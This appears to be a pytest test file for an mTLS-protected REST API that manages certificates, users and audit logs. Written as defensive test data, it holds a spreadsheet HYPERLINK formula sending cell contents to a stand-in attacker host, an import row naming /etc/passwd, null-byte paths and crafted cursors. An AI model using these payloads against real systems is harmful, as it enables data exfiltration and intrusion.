def test_deactivate_takes_effect_at_once_and_is_audited(api: Api, pki: TestPKI, alice: Issued) -> None:
    api.upload(alice)
    api.store.set_user_permissions("alice", [MANAGE_CERTIFICATES])
    as_alice = client(api.store, pki, alice)
    assert as_alice.get("/users").status_code == 200
    response = api.client.patch("/users/alice", json={"active": False})
    assert response.json["active"] is False
    refused = as_alice.get("/users")
    assert (refused.status_code, error(refused)) == (403, "user_inactive")
    (entry,) = api.audit(action="user.update")
    assert (entry["before"]["active"], entry["after"]["active"]) == (True, False)
    assert api.client.patch("/users/alice", json={"active": True}).json["active"] is True
    assert as_alice.get("/users").status_code == 200


def test_update_permissions_and_org_moves_certificates(api: Api, alice: Issued) -> None:
    api.upload(alice)
    response = api.client.patch("/users/alice", json={"permissions": ["enforce_mtls"], "org": "zeta"})
    assert response.json == {"user_id": "alice", "org": "zeta", "active": True, "permissions": ["enforce_mtls"]}
    assert api.store.get_certificate(alice.fingerprint).org == "zeta"


@pytest.mark.parametrize(
    ("path", "body", "status", "code"),
    [
        pytest.param("/users/nobody", {"active": False}, 404, "unknown_user", id="unknown-user"),
        pytest.param("/users/alice", {}, 400, "invalid_request", id="nothing-to-change"),
        pytest.param("/users/alice", {"user_id": "x"}, 400, "invalid_request", id="renaming-not-allowed"),
        pytest.param("/users/alice", {"active": None}, 400, "invalid_request", id="active-null"),
    ],
)
def test_bad_user_updates(api: Api, path: str, body: dict[str, Any], status: int, code: str) -> None:
    response = api.client.patch(path, json=body)
    assert (response.status_code, error(response)) == (status, code)
    assert api.audit() == []


@pytest.mark.parametrize("path", ["/users/nobody", "/users/a%00b", "/users/a%00b/certificates"])
def test_get_unknown_user_is_404(api: Api, path: str) -> None:
    response = api.client.get(path)
    assert (response.status_code, error(response)) == (404, "unknown_user")


# -- organisations ----------------------------------------------------------------------------


def test_switching_certificate_login_off_refuses_the_org_at_once(api: Api, pki: TestPKI, alice: Issued) -> None:
    api.upload(alice)
    api.store.set_user_permissions("alice", [MANAGE_CERTIFICATES])
    as_alice = client(api.store, pki, alice)
    assert as_alice.get("/organisations").status_code == 200
    off = api.client.put("/organisations/acme", json={"cert_auth": False})
    assert (off.status_code, off.json) == (200, {"org": "acme", "cert_auth": False})
    refused = as_alice.get("/organisations")
    assert (refused.status_code, error(refused)) == (403, "certificate_auth_disabled")
    assert api.client.get("/organisations/acme").json == {"org": "acme", "cert_auth": False}
    (entry,) = api.audit(action="org.set")
    assert (entry["before"], entry["after"]) == ({"org": "acme", "cert_auth": True}, {"org": "acme", "cert_auth": False})


def test_put_creates_an_organisation(api: Api) -> None:
    created = api.client.put("/organisations/new%20org", json={"cert_auth": True})
    assert (created.status_code, created.json) == (201, {"org": "new org", "cert_auth": True})
    assert {"org": "new org", "cert_auth": True} in api.client.get("/organisations").json["items"]
    assert api.audit(action="org.set")[0]["before"] is None


@pytest.mark.parametrize(
    ("path", "body", "status", "code"),
    [
        pytest.param("/organisations/acme", {"cert_auth": "off"}, 400, "invalid_request", id="not-bool"),
        pytest.param("/organisations/acme", {}, 400, "invalid_request", id="missing"),
        pytest.param("/organisations/%20acme", {"cert_auth": True}, 400, "invalid_request", id="blank-name"),
    ],
)
def test_bad_org_changes(api: Api, path: str, body: dict[str, Any], status: int, code: str) -> None:
    response = api.client.put(path, json=body)
    assert (response.status_code, error(response)) == (status, code)


@pytest.mark.parametrize("path", ["/organisations/nowhere", "/organisations/a%00b"])
def test_get_unknown_org_is_404(api: Api, path: str) -> None:
    response = api.client.get(path)
    assert (response.status_code, error(response)) == (404, "not_found")


# -- login history and audit log --------------------------------------------------------------


def test_login_history_pages_through_equal_times_exactly_once(api: Api) -> None:
    base = dt.datetime(2026, 5, 1, tzinfo=UTC).timestamp()
    # Runs of equal times that straddle page boundaries.
    times = [base + t for t in (0, 1, 1, 1, 1, 2, 3, 3, 3, 4, 5, 5)]
    for index, when in enumerate(times):
        api.store.record(LoginRecord("accepted", "test", user_id=f"u{index}", detail=f"#{index}", time=when))
    api.store.flush()
    found = pages(api, "/login-history", 2, since="2026-05-01T00:00:00Z", until="2026-05-02T00:00:00Z")
    details = [item["detail"] for page in found for item in page]
    assert sorted(details) == sorted(f"#{i}" for i in range(len(times)))
    assert len(details) == len(times)
    shown_times = [item["time"] for page in found for item in page]
    assert shown_times == sorted(shown_times, reverse=True)


def test_login_history_filters(api: Api, pki: TestPKI, alice: Issued, carol: Issued) -> None:
    api.upload(alice)
    client(api.store, pki, alice).get("/users")  # accepted login, then refused (no permission)
    client(api.store, pki, carol).get("/users")  # unknown certificate
    api.store.flush()

    def outcomes(query: str) -> list[str]:
        response = api.client.get(f"/login-history?{query}")
        assert response.status_code == 200, response.json
        return [i["outcome"] for i in response.json["items"]]

    assert outcomes("user_id=alice") == ["accepted"]
    assert outcomes("failed=true") == ["unknown_certificate"]
    assert outcomes("outcome=unknown_certificate") == ["unknown_certificate"]
    bad = api.client.get("/login-history?outcome=maybe")
    assert (bad.status_code, error(bad)) == (400, "invalid_request")
    bad = api.client.get("/login-history?failed=yes")
    assert (bad.status_code, error(bad)) == (400, "invalid_request")


def test_audit_log_filters_and_pages(api: Api, alice: Issued) -> None:
    api.upload(alice)
    api.client.patch(f"/certificates/{alice.fingerprint}", json={"label": "one"})
    api.client.patch(f"/certificates/{alice.fingerprint}", json={"label": "two"})
    api.client.put("/organisations/acme", json={"cert_auth": True})
    found = pages(api, "/audit-log", 3)
    actions = [item["action"] for page in found for item in page]
    assert actions == ["org.set", "certificate.rename", "certificate.rename", "certificate.upload"]
    assert [len(page) for page in found] == [3, 1]
    assert [e["action"] for e in api.audit(target=alice.fingerprint, action="certificate.rename")] == [
        "certificate.rename", "certificate.rename"
    ]
    assert api.audit(actor="alice") == []
    assert len(api.audit(since="2000-01-01T00:00:00Z", until="2999-01-01T00:00:00Z")) == 4


# -- CSV import and export --------------------------------------------------------------------


def test_export_then_import_into_another_store_round_trips(
    sqlite_store: SQLiteStore, tmp_path: Path, pki: TestPKI, admin_cert: Issued, alice: Issued, carol: Issued
) -> None:
    api = Api(sqlite_store, client(sqlite_store, pki, admin_cert))
    api.store.add_user("carol", org="zeta")
    assert api.upload(alice, label='alice, "quoted" label').status_code == 201
    assert api.upload(carol, user_id="carol", label="c").status_code == 201
    exported = api.client.get("/certificates/export")
    assert exported.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(exported.data.decode())))
    assert {r["fingerprint"] for r in rows} == {admin_cert.fingerprint, alice.fingerprint, carol.fingerprint}

    with SQLiteStore(tmp_path / "other.db") as other:
        add_admin(other, admin_cert)
        other.add_user("alice", org="acme")
        other.add_user("carol", org="zeta")
        other_api = Api(other, client(other, pki, admin_cert))
        # The admin's own certificate is already there: the whole import is refused, nothing stored.
        refused = other_api.client.post(
            "/certificates/import", data=exported.data, headers={"Content-Type": "text/csv"}
        )
        assert (refused.status_code, error(refused)) == (409, "duplicate_certificate")
        assert [(r["error"], r["user_id"]) for r in refused.json["rows"]] == [("duplicate_certificate", "admin")]
        assert len(other.list_certificates()) == 1
        without_admin = "".join(row for row in _csv_rows(exported.data) if not row.startswith("admin,"))
        imported = other_api.client.post(
            "/certificates/import", data={"file": (io.BytesIO(without_admin.encode()), "certs.csv")}, headers=CSRF
        )
        assert imported.status_code == 201, imported.json
        assert sorted(imported.json["fingerprints"]) == sorted([alice.fingerprint, carol.fingerprint])
        assert other.get_certificate(alice.fingerprint).label == 'alice, "quoted" label'
        assert other.download_certificate(alice.fingerprint) == alice.chain_pem
        audited = other_api.audit(action="certificate.import")
        assert sorted(e["target"] for e in audited) == sorted([alice.fingerprint, carol.fingerprint])


def test_export_neutralises_formulas_and_import_restores_them(api: Api, alice: Issued) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&C2,"open")'
    assert api.client.post("/users", json={"user_id": formula, "org": "+acme"}).status_code == 201
    assert api.upload(alice, user_id=formula, label="@SUM(A1)").status_code == 201
    exported = api.client.get("/certificates/export", query_string={"user_id": formula})
    (cells,) = list(csv.DictReader(io.StringIO(exported.data.decode(), newline="")))
    assert (cells["user_id"], cells["org"], cells["label"]) == ("'" + formula, "'+acme", "'@SUM(A1)")
    api.client.delete(f"/certificates/{alice.fingerprint}")
    imported = api.client.post("/certificates/import", data=exported.data, headers={"Content-Type": "text/csv"})
    assert imported.status_code == 201, imported.json
    record = api.store.get_certificate(alice.fingerprint)
    assert (record.user_id, record.label) == (formula, "@SUM(A1)")


def _csv_rows(data: bytes) -> list[str]:
    """The CSV's records as text, each with its line end (quoted fields may hold newlines)."""
    out = []
    for row in csv.reader(io.StringIO(data.decode(), newline="")):
        line = io.StringIO(newline="")
        csv.writer(line).writerow(row)
        out.append(line.getvalue())
    return out


@pytest.mark.parametrize(
    ("body", "content_type", "status", "code"),
    [
        pytest.param(b"", "text/csv", 400, "invalid_request", id="empty"),
        pytest.param(b"user,pem\n", "text/csv", 400, "invalid_request", id="missing-columns"),
        pytest.param(b"user_id,pem_file\nalice,/etc/passwd\n", "text/csv", 400, "invalid_request",
                     id="pem-file-never-read-on-the-server"),
        pytest.param(b'user_id,pem\nalice,"unterminated\n', "text/csv", 400, "invalid_request", id="bad-quoting"),
        pytest.param(b"user_id,pem\nalice,x,extra\n", "text/csv", 400, "invalid_request", id="extra-field"),
        pytest.param(b"user_id,pem\nalice,x\n", "text/csv", 400, "malformed_certificate", id="row-refused"),
        pytest.param(b"user_id,pem\n", "application/json", 415, "unsupported_media_type", id="not-csv"),
    ],
)
def test_bad_imports(api: Api, body: bytes, content_type: str, status: int, code: str) -> None:
    response = api.client.post("/certificates/import", data=body, headers={"Content-Type": content_type})
    assert (response.status_code, error(response)) == (status, code)
    assert "root:" not in response.get_data(as_text=True)


def test_import_refusal_lists_every_refused_row(api: Api, alice: Issued, carol: Issued) -> None:
    out = io.StringIO(newline="")
    writer = csv.writer(out)
    writer.writerows([("user_id", "label", "pem"), ("alice", "a", alice.chain_pem.decode()),
                      ("nobody", "n", carol.chain_pem.decode()), ("alice", "bad", "not a pem")])
    response = api.client.post("/certificates/import", data=out.getvalue(), headers={"Content-Type": "text/csv"})
    assert (response.status_code, error(response)) == (404, "unknown_user")
    assert [(r["row"], r["error"]) for r in response.json["rows"]] == [(3, "unknown_user"), (4, "malformed_certificate")]
    assert alice.fingerprint not in {c.fingerprint for c in api.store.list_certificates()}


def test_a_refused_import_row_gets_its_reasons_sentence_and_the_detail_goes_to_the_log(
    api: Api, carol: Issued, caplog: pytest.LogCaptureFixture
) -> None:
    garbage = "-----BEGIN CERTIFICATE-----\nMIIBAAAA\n-----END CERTIFICATE-----\n"
    body = _csv(("alice", "x", garbage), ("nobody", "n", carol.chain_pem.decode()))
    with caplog.at_level("INFO", logger="mtls_middleware"):
        response = api.client.post("/certificates/import", data=body, headers={"Content-Type": "text/csv"})
    assert (response.status_code, error(response)) == (400, "malformed_certificate")
    rows = response.json["rows"]
    assert [(r["row"], r["error"]) for r in rows] == [(2, "malformed_certificate"), (3, "unknown_user")]
    assert [r["message"] for r in rows] == [Reason.MALFORMED_CERTIFICATE.message, Reason.UNKNOWN_USER.message]
    logged = [r.getMessage() for r in caplog.records if "row 2 refused" in r.getMessage()]
    assert len(logged) == 1
    assert "rest:admin" in logged[0]
    assert "malformed_certificate" in logged[0]


# -- the audit log's actor ---------------------------------------------------------------------


def test_a_rest_actor_cannot_pass_for_a_django_admin(api: Api, pki: TestPKI, alice: Issued) -> None:
    """A user named ``django:root`` changes something: the audit log says it came through the API."""
    eve = pki.issue_client("eve")
    add_admin(api.store, eve, user_id="django:root")
    eves = client(api.store, pki, eve)
    assert eves.patch("/users/alice", json={"active": False}).status_code == 200
    assert eves.post("/certificates", json={"user_id": "alice", "pem": alice.chain_pem.decode()}).status_code == 201
    assert [(e["actor"], e["action"]) for e in api.audit()] == [
        ("rest:django:root", "certificate.upload"), ("rest:django:root", "user.update")
    ]
    assert api.audit(actor="django:root") == []
    assert api.store.get_certificate(alice.fingerprint).uploaded_by == "rest:django:root"


# -- creating a user: check and add as one step --------------------------------------------------


class _InterleavingStore(MemoryStore):
    """A real MemoryStore whose ``get_user`` waits, after looking the user up, until two requests
    are inside it (or a moment passes): the interleaving in which two concurrent creates of one user
    both see no user and the second overwrites the first."""

    def __init__(self) -> None:
        super().__init__()
        self.barrier = threading.Barrier(2, timeout=1)

    def get_user(self, user_id: str) -> Any:
        try:
            return super().get_user(user_id)
        finally:  # looked up, not yet answered
            if user_id == "twin":
                # A broken barrier: the other one is not inside, the API serialised them.
                with contextlib.suppress(threading.BrokenBarrierError):
                    self.barrier.wait()


def test_two_concurrent_creates_of_one_user_give_one_201_and_one_409(pki: TestPKI, admin_cert: Issued) -> None:
    store = _InterleavingStore()
    add_admin(store, admin_cert)
    app = Presenting(protected(store, pki), admin_cert)  # one application, two threads of a server
    results: list[tuple[int, str]] = []

    def create(permissions: list[str]) -> None:
        response = Client(app).post("/users", json={"user_id": "twin", "permissions": permissions})
        results.append((response.status_code, response.json.get("error", "")))

    threads = [threading.Thread(target=create, args=(p,)) for p in (["api_only"], [MANAGE_CERTIFICATES])]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(10)
    assert sorted(results) == [(201, ""), (409, "duplicate_user")]
    (created,) = [e for e in store.audit_log() if e.action == "user.create"]
    assert created.after is not None
    assert store.get_user("twin").permissions == frozenset(created.after["permissions"])


# -- routing ----------------------------------------------------------------------------------


def test_unknown_paths_and_methods(api: Api) -> None:
    missing = api.client.get("/nothing-here")
    assert (missing.status_code, error(missing)) == (404, "not_found")
    wrong = api.client.delete("/users")
    assert (wrong.status_code, error(wrong)) == (405, "method_not_allowed")
    assert set(wrong.headers["Allow"].split(", ")) == {"GET", "HEAD", "POST"}
    assert api.client.patch("/certificates/export").status_code == 405


def test_mounted_under_a_prefix(store: MemoryStore, pki: TestPKI, admin_cert: Issued, alice: Issued) -> None:
    config = MTLSConfig(trust_roots=[pki.root.cert], store=store, revocation="off")
    from mtls_middleware.wsgi import MTLSMiddleware

    def other(environ: Any, start_response: Any) -> list[bytes]:
        start_response("200 OK", [("Content-Type", "text/plain")])
        return [b"the app"]

    mounted = MTLSMiddleware(DispatcherMiddleware(other, {"/admin/api": RestAPI(store)}), config)
    web = Client(Presenting(mounted, admin_cert))
    created = web.post("/admin/api/certificates", json={"user_id": "alice", "pem": alice.chain_pem.decode()})
    assert created.status_code == 201
    assert created.headers["Location"] == f"/admin/api/certificates/{alice.fingerprint}"
    assert web.get(created.headers["Location"]).json["user_id"] == "alice"
    assert web.get("/admin/api/openapi.json").status_code == 200
    assert web.get("/elsewhere").data == b"the app"


def test_a_fault_of_the_store_is_500_internal_error_without_a_trace(
    api: Api, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    def broken(**_: Any) -> list[Any]:
        raise RuntimeError("disk on fire at /var/lib/secret")

    monkeypatch.setattr(api.store, "list_users", broken)  # a fault no real request can cause
    response = api.client.get("/users")
    assert (response.status_code, error(response)) == (500, "internal_error")
    assert "fire" not in response.get_data(as_text=True)
    assert "disk on fire" in caplog.text


def test_a_closed_store_is_500_internal_error(sqlite_store: SQLiteStore, pki: TestPKI, admin_cert: Issued) -> None:
    api = Api(sqlite_store, client(sqlite_store, pki, admin_cert))
    api.client.get("/users")  # the verdict is cached: the request reaches the API
    api.store.close()
    response = api.client.get("/users")
    assert (response.status_code, error(response)) == (500, "internal_error")


# -- ASGI -------------------------------------------------------------------------------------


def test_asgi_adapter_behind_the_asgi_middleware(store: MemoryStore, pki: TestPKI, admin_cert: Issued,
                                                 alice: Issued) -> None:
    config = MTLSConfig(trust_roots=[pki.root.cert], store=store, revocation="off")
    app = with_client_certificate(ASGIMiddleware(asgi_app(RestAPI(store)), config), admin_cert)

    async def run() -> list[httpx.Response]:
        transport = httpx.ASGITransport(app=app)
        async with httpx.AsyncClient(transport=transport, base_url="https://api.test") as http:
            return [
                await http.post("/certificates", params={"user_id": "alice", "label": "asgi"},
                                content=alice.chain_pem, headers={"Content-Type": PEM}),
                await http.get(f"/certificates/{alice.fingerprint}", headers={"Accept": PEM}),
                await http.post("/certificates", content=b"x" * (20 * 1024 * 1024), headers={"Content-Type": PEM}),
                await http.get("/audit-log"),
            ]

    upload, download, oversize, audit = asyncio.run(run())
    assert upload.status_code == 201, upload.text
    assert download.content == alice.chain_pem
    assert (oversize.status_code, oversize.json()["error"]) == (413, "request_too_large")
    assert audit.json()["items"][0]["actor"] == "rest:admin"


def test_asgi_adapter_without_the_middleware_is_401(store: MemoryStore) -> None:
    async def run() -> httpx.Response:
        transport = httpx.ASGITransport(app=asgi_app(RestAPI(store)))
        async with httpx.AsyncClient(transport=transport, base_url="http://api.test") as http:
            return await http.get("/users")

    response = asyncio.run(run())
    assert (response.status_code, response.json()["error"]) == (401, "no_certificate")


class _Body:
    """An ASGI ``receive`` that hands out ``total`` bytes in 64 KiB chunks and counts what it gave."""

    def __init__(self, total: int) -> None:
        self.total = total
        self.given = 0

    async def __call__(self) -> dict[str, Any]:
        chunk = b"x" * min(64 * 1024, self.total - self.given)
        self.given += len(chunk)
        return {"type": "http.request", "body": chunk, "more_body": self.given < self.total}


def _asgi_call(app: Any, method: str, path: str, total: int, headers: list[tuple[bytes, bytes]]) -> tuple[int, str, int]:
    """(status, reason code or "", bytes the app read) of one request whose body is ``total`` bytes."""
    body = _Body(total)
    sent: list[dict[str, Any]] = []

    async def send(message: dict[str, Any]) -> None:
        sent.append(message)

    scope = {"type": "http", "method": method, "path": path, "root_path": "", "query_string": b"",
             "headers": headers, "scheme": "https", "server": ("api.test", 443), "http_version": "1.1"}
    asyncio.run(app(scope, body, send))
    payload = b"".join(m.get("body", b"") for m in sent if m["type"] == "http.response.body")
    code = json.loads(payload).get("error", "") if payload.startswith(b"{") else ""
    return sent[0]["status"], code, body.given


BIG = 12 * 1024 * 1024  # over max_body, within max_import_body


@pytest.mark.parametrize(
    ("who", "method", "path", "headers", "status", "code"),
    [
        pytest.param(None, "POST", "/users", [], 401, "no_certificate", id="no-identity"),
        pytest.param("alice", "POST", "/users", [], 403, "permission_denied", id="no-permission"),
        pytest.param("alice", "POST", "/certificates/import", [(b"content-type", b"text/csv")], 403,
                     "permission_denied", id="no-permission-import"),
        pytest.param("admin", "POST", "/nowhere", [], 404, "not_found", id="no-such-path"),
        pytest.param("admin", "DELETE", "/users", [], 405, "method_not_allowed", id="no-such-method"),
        pytest.param("admin", "POST", "/certificates", [(b"content-type", b"multipart/form-data; boundary=x")],
                     403, "permission_denied", id="multipart-without-csrf-header"),
        pytest.param("admin", "POST", "/users",
                     [(b"content-type", b"application/json"), (b"content-length", str(BIG).encode())],
                     413, "request_too_large", id="declared-length-over-max-body"),
        pytest.param("admin", "POST", "/certificates/import",
                     [(b"content-type", b"text/csv"), (b"content-length", str(17 * 1024 * 1024).encode())],
                     413, "request_too_large", id="declared-length-over-max-import-body"),
    ],
)
def test_asgi_adapter_answers_before_reading_the_body(
    store: MemoryStore, pki: TestPKI, admin_cert: Issued, alice: Issued, who: str | None, method: str,
    path: str, headers: list[tuple[bytes, bytes]], status: int, code: str
) -> None:
    store.upload_certificate(alice.chain_pem, user_id="alice")
    config = MTLSConfig(trust_roots=[pki.root.cert], store=store, revocation="off")
    app: Any = asgi_app(RestAPI(store))  # no identity: mounted without the middleware in front
    if who is not None:
        app = with_client_certificate(ASGIMiddleware(app, config), admin_cert if who == "admin" else alice)
    assert _asgi_call(app, method, path, BIG, headers) == (status, code, 0)


def test_asgi_adapter_limits_the_body_by_operation(store: MemoryStore, pki: TestPKI, admin_cert: Issued) -> None:
    """12 MiB without a declared length: too much for a user's JSON (stops reading just past
    max_body), within the CSV import's limit (read whole, then refused as CSV, not as too large)."""
    config = MTLSConfig(trust_roots=[pki.root.cert], store=store, revocation="off")
    app = with_client_certificate(ASGIMiddleware(asgi_app(RestAPI(store)), config), admin_cert)
    status, code, read = _asgi_call(app, "POST", "/users", BIG, [(b"content-type", b"application/json")])
    assert (status, code) == (413, "request_too_large")
    assert read <= DEFAULT_MAX_BODY + 64 * 1024
    status, code, read = _asgi_call(app, "POST", "/certificates/import", BIG, [(b"content-type", b"text/csv")])
    assert (status, code, read) == (400, "invalid_request", BIG)


# -- real TLS: curl --cert against our listener -----------------------------------------------


@pytest.fixture
def listener(sqlite_store: SQLiteStore, pki: TestPKI, tmp_path: Path) -> Iterator[tuple[int, Path]]:
    server_cert, server_key = pki.issue_server("localhost").write(tmp_path, "server")
    root = pki.write(tmp_path)
    server = make_server(
        protected(sqlite_store, pki), certfile=server_cert, keyfile=server_key, trust_roots=root, port=0
    )
    thread = threading.Thread(target=server.serve_forever, name="rest-listener", daemon=True)
    thread.start()
    try:
        yield server.server_port, root
    finally:
        server.shutdown()
        thread.join(10)


def _curl(port: int, root: Path, cert: tuple[Path, Path] | None, path: str, *args: str) -> tuple[int, bytes]:
    argv = [require_service("curl"), "--silent", "--show-error", "--max-time", "10", "--noproxy", "*",
            "--cacert", str(root), "--write-out", "\n%{http_code}"]
    if cert is not None:
        argv += ["--cert", str(cert[0]), "--key", str(cert[1])]
    done = subprocess.run([*argv, *args, f"https://localhost:{port}{path}"], capture_output=True, timeout=30,
                          check=False)
    body, _, status = done.stdout.rpartition(b"\n")
    assert status.isdigit(), done.stderr
    return int(status), body


def test_curl_with_a_client_certificate_through_a_real_handshake(
    listener: tuple[int, Path], tmp_path: Path, admin_cert: Issued, alice: Issued, sqlite_store: SQLiteStore
) -> None:
    store = sqlite_store
    port, root = listener
    admin_files = admin_cert.write(tmp_path, "admin")
    alice_files = alice.write(tmp_path, "alice")
    status, body = _curl(port, root, admin_files, "/certificates?user_id=alice&label=laptop",
                         "-H", f"Content-Type: {PEM}", "--data-binary", f"@{alice_files[0]}")
    assert status == 201, body
    assert json.loads(body)["fingerprint"] == alice.fingerprint
    status, body = _curl(port, root, admin_files, f"/certificates/{alice.fingerprint}", "-H", f"Accept: {PEM}")
    assert (status, body) == (200, alice.chain_pem)
    status, body = _curl(port, root, admin_files, f"/certificates/{alice.fingerprint}", "-X", "PATCH",
                         "-H", "Content-Type: application/json", "--data", '{"label": "desk"}')
    assert (status, json.loads(body)["label"]) == (200, "desk")
    # alice has a registered certificate but not the permission.
    status, body = _curl(port, root, alice_files, "/certificates")
    assert (status, json.loads(body)["error"]) == (403, "permission_denied")
    status, body = _curl(port, root, None, "/certificates")
    assert (status, json.loads(body)["error"]) == (401, "no_certificate")
    status, body = _curl(port, root, admin_files, f"/certificates/{alice.fingerprint}", "-X", "DELETE")
    assert status == 204
    assert [e.action for e in store.audit_log()] == ["certificate.delete", "certificate.rename", "certificate.upload"]
    assert {e.actor for e in store.audit_log()} == {"rest:admin"}


def test_quote_is_used_for_location(api: Api) -> None:
    created = api.client.post("/users", json={"user_id": "a/b?c"})
    assert created.headers["Location"] == "/users/" + quote("a/b?c", safe="")


def test_mtls_error_reasons_added_for_the_api_have_their_status() -> None:
    assert [MTLSError(Reason(code)).status for code in (
        "permission_denied", "duplicate_user", "invalid_request", "request_too_large", "method_not_allowed",
        "unsupported_media_type",
    )] == [403, 409, 400, 413, 405, 415]


def test_asgi_adapter_mounted_in_starlette(store: MemoryStore, pki: TestPKI, admin_cert: Issued) -> None:
    from starlette.applications import Starlette
    from starlette.routing import Mount

    config = MTLSConfig(trust_roots=[pki.root.cert], store=store, revocation="off")
    site = Starlette(routes=[Mount("/admin/api", app=asgi_app(RestAPI(store)))])
    app = with_client_certificate(ASGIMiddleware(site, config), admin_cert)

    async def run() -> httpx.Response:
        transport = httpx.ASGITransport(app=app)
        async with httpx.AsyncClient(transport=transport, base_url="https://site.test") as http:
            return await http.post("/admin/api/users", json={"user_id": "mounted"})

    created = asyncio.run(run())
    assert created.status_code == 201, created.text
    assert created.headers["location"] == "/admin/api/users/mounted"


def _cursor(kind: str, position: Any) -> str:
    import base64

    raw = json.dumps([kind, position]).encode()
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()


@pytest.mark.parametrize(
    ("path", "cursor"),
    [
        pytest.param("/login-history", _cursor("login-history", [float("nan"), 0]), id="history-nan"),
        pytest.param("/login-history", _cursor("login-history", [1e300, 0]), id="history-year-out-of-range"),
        pytest.param("/login-history", _cursor("login-history", [1.5, -1]), id="history-negative-skip"),
        pytest.param("/login-history", _cursor("login-history", [1, 0]), id="history-int-time"),
        pytest.param("/login-history", _cursor("login-history", [1.5]), id="history-short"),
        pytest.param("/audit-log", _cursor("audit-log", ["1"]), id="audit-id-text"),
        pytest.param("/audit-log", _cursor("audit-log", [True]), id="audit-id-bool"),
        pytest.param("/users", _cursor("users", [1]), id="users-id-number"),
        pytest.param("/certificates", _cursor("certificates", [1.5, "ab"]), id="certificates-float"),
        pytest.param("/users", "w" * 5000, id="long-garbage"),
        pytest.param("/users", "é", id="not-ascii"),
    ],
)
def test_crafted_cursors_are_400(api: Api, path: str, cursor: str) -> None:
    response = api.client.get(path, query_string={"cursor": cursor})
    assert (response.status_code, error(response), response.json["parameter"]) == (400, "invalid_request", "cursor")


def test_a_huge_audit_cursor_is_just_past_the_end(api: Api) -> None:
    api.client.put("/organisations/acme", json={"cert_auth": True})
    response = api.client.get("/audit-log", query_string={"cursor": _cursor("audit-log", [2**80])})
    assert [e["action"] for e in response.json["items"]] == ["org.set"]


def test_multipart_upload_refuses_unknown_parts(api: Api, alice: Issued) -> None:
    response = api.client.post(
        "/certificates",
        data={"file": (io.BytesIO(alice.chain_pem), "a.pem"), "user_id": "alice",
              "extra": (io.BytesIO(b"x"), "x.txt")},
        headers=CSRF,
    )
    assert (response.status_code, error(response), response.json["parameter"]) == (400, "invalid_request", "extra")


def test_asgi_adapter_answers_lifespan(store: MemoryStore) -> None:
    app = asgi_app(RestAPI(store))
    messages = iter([{"type": "lifespan.startup"}, {"type": "lifespan.shutdown"}])
    sent: list[dict[str, Any]] = []

    async def receive() -> dict[str, Any]:
        return next(messages)

    async def send(message: dict[str, Any]) -> None:
        sent.append(message)

    asyncio.run(app({"type": "lifespan"}, receive, send))
    assert [m["type"] for m in sent] == ["lifespan.startup.complete", "lifespan.shutdown.complete"]


# -- over every store kind --------------------------------------------------------------------


@pytest.mark.parametrize("kind", KINDS)
def test_the_api_over_every_store_kind(
    kind: str, tmp_path: Path, pki: TestPKI, admin_cert: Issued, alice: Issued
) -> None:
    """The operations end to end over each store (the REST API is a thin layer over any of them),
    including names no store can hold, which must be a 404, never a database error."""
    opened = open_kind(kind, tmp_path)
    try:
        _seed(opened, admin_cert)
        api = Api(opened, client(opened, pki, admin_cert))
        assert api.upload(alice, label="laptop").status_code == 201
        assert [i["fingerprint"] for i in api.client.get("/users/alice/certificates").json["items"]] == [
            alice.fingerprint
        ]
        assert api.client.get(f"/certificates/{alice.fingerprint}", headers={"Accept": PEM}).data == alice.chain_pem
        assert api.client.patch(f"/certificates/{alice.fingerprint}", json={"label": "desk"}).status_code == 200
        assert api.client.patch("/users/alice", json={"active": False}).json["active"] is False
        assert api.client.put("/organisations/acme", json={"cert_auth": False}).status_code == 200
        for path, code in (("/users/a%00b", "unknown_user"), ("/organisations/a%00b", "not_found"),
                           ("/users/a%00b/certificates", "unknown_user")):
            response = api.client.get(path)
            assert (response.status_code, error(response)) == (404, code), path
        created = api.client.post("/users", json={"user_id": "bob", "permissions": ["api_only"]})
        assert created.status_code == 201
        assert api.client.delete(f"/certificates/{alice.fingerprint}").status_code == 204
        opened.flush()
        assert api.client.get("/login-history?limit=1").json["items"][0]["user_id"] == "admin"
        actions = [e["action"] for page in pages(api, "/audit-log", 2) for e in page]
        assert actions == [
            "certificate.delete", "user.create", "org.set", "user.update", "certificate.rename",
            "certificate.upload",
        ]
    finally:
        opened.close()
